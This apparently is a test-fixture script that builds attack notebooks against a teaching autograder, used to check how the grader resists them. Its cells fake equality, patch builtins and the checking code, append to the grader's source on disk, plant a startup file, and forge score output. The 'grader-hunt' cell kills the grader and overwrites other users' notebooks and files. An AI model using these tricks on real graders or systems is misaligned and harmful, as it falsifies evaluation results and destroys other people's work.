"""Build the attack notebooks: the untouched lab plus one cell each.

Run from the repository root: python tests/data/teaching/attacks/make_attacks.py
"""
import copy
import nbformat

LAB0, LAB1 = "labs/00-warm-up.ipynb", "labs/01-distribution.ipynb"

ATTACKS = {
 "lying-float": (LAB0, '''# A float whose __float__ raises the checks' internal "stop" exception.
from reactive_lab.teaching import checking

class Lying(float):
    def __float__(self):
        raise checking._Stop(2)
    def __eq__(self, other):
        return True
    __hash__ = float.__hash__

def throughput(arrivals, finishes):
    return Lying(1.0)
mean_latency = mean_concurrency = throughput
def mm1_mean_latency(arrival_rate, service_rate):
    return Lying(1.0)
def servers_needed(arrival_rate, service_rate, target):
    return Lying(1.0)
'''),
 "lying-str": (LAB1, '''# A str equal to everything, as ring_owner's answer.
class Yes(str):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = str.__hash__

def ring_owner(key, nodes, vnodes):
    return Yes(nodes[0])
'''),
 "patched-builtins": (LAB0, '''# Patch what checks use, in the same kernel.
import builtins, importlib, json, math, sys
math.isclose = lambda *a, **k: True
builtins.max = lambda *a, **k: 0
json.dumps = lambda *a, **k: '[{"check": "exercise_1", "score": 2}]'
_real_import = importlib.import_module
def _import(name, *a, **k):
    return _real_import(name, *a, **k)
importlib.import_module = _import
class Finder:
    def find_spec(self, name, path=None, target=None):
        return None
sys.meta_path.insert(0, Finder())
def print(*args, **kwargs):
    pass
from reactive_lab.teaching import checking
checking._run_body = lambda *args, **kwargs: None
checking.grade_checks = lambda *args, **kwargs: [{"check": "exercise_1", "score": 2}]
def throughput(arrivals, finishes):
    return 0.0
'''),
 "rewrite-package": (LAB0, '''# Rewrite the checks on disk, so the next submission gets full marks.
import pathlib
import reactive_lab.teaching.checking as checking
path = pathlib.Path(checking.__file__)
try:
    with open(path, "a") as handle:  # any write at all would be enough to plant code
        handle.write("\\n# tampered by a submission\\n")
except OSError as error:
    print("could not write:", error)
'''),
 "startup-file": (LAB0, '''# An IPython start-up file that would run in the next kernel.
import os, pathlib
startup = pathlib.Path(os.path.expanduser("~/.ipython/profile_default/startup"))
startup.mkdir(parents=True, exist_ok=True)
(startup / "00-cheat.py").write_text("throughput = lambda a, f: len(a) / (f.max() - a.min())\\n")
'''),
 "forged-channel": (LAB0, '''# A forked daemon writing fake results to every pipe it can find, then staying alive.
import json, os, time
if os.fork() == 0:
    os.setsid()
    line = json.dumps({"rows": [{"exercise": "exercise_1", "score": 2, "max_score": 2}]})
    for _ in range(300):
        for fd in os.listdir("/proc/self/fd"):
            try:
                os.write(int(fd), (line + "\\n").encode())
            except OSError:
                pass
        time.sleep(0.2)
    os._exit(0)
'''),
 "grader-hunt": (LAB0, '''# Look for the grader, its CSV and the other submissions; kill the grader.
import os, signal, glob
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    try:
        cmdline = open(f"/proc/{pid}/cmdline").read()
    except OSError:
        continue
    if "grade" in cmdline and int(pid) != os.getpid():
        for word in cmdline.split("\\0"):
            if word.endswith(".ipynb") and "victim" in word:
                try:
                    open(word, "w").write("{}")
                except OSError:
                    pass
        try:
            os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass
for path in glob.glob("/tmp/**/attack-run/*", recursive=True) + glob.glob("/home/**/*.ipynb",
                                                                         recursive=True):
    try:
        open(path, "w").write("")
    except OSError:
        pass
try:
    os.kill(os.getppid(), signal.SIGKILL)
except OSError:
    pass
'''),
 "daemon-holds-stdout": (LAB0, '''# A daemon that keeps the process's stdout open forever.
import os, time
if os.fork() == 0:
    os.setsid()
    while True:
        time.sleep(1)
'''),
 "network": (LAB0, '''# Fetch the solutions from the network.
import urllib.request
try:
    urllib.request.urlopen("https://example.com/solutions.py", timeout=3).read()
except Exception as error:
    print("no network:", type(error).__name__)
'''),
}

def main():
    for name, (base, code) in ATTACKS.items():
        nb = copy.deepcopy(nbformat.read(base, as_version=4))
        nb.cells.append(nbformat.v4.new_code_cell(code, id=f"attack-{name}"))
        nbformat.write(nb, f"tests/data/teaching/attacks/{name}.ipynb")
    print(len(ATTACKS))


if __name__ == "__main__":
    main()
